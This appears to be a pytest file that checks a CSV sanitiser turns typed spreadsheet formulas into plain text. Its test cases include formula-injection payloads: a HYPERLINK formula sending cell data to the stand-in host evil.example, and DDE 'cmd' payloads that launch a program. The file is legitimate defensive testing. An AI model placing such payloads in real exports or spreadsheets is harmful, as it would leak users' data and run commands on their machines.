"""A value someone typed cannot run as a formula in the spreadsheet a CSV report opens in."""

import pytest

from core.csv_cells import safe_cell


@pytest.mark.parametrize(("typed", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ('=cmd|" /C calc"!A0', '\'=cmd|" /C calc"!A0'),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("+HYPERLINK(1)", "'+HYPERLINK(1)"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("\tx", "'\tx"),
    # Data that only looks like a start: numbers and phone numbers stay as they are.
    ("+31 6 12345678", "+31 6 12345678"),
    ("-12.5", "-12.5"),
    ("Ann", "Ann"),
    ("", ""),
    (None, None),
    (3, 3),
])
def test_a_formula_is_written_as_text(typed, written):
    assert safe_cell(typed) == written
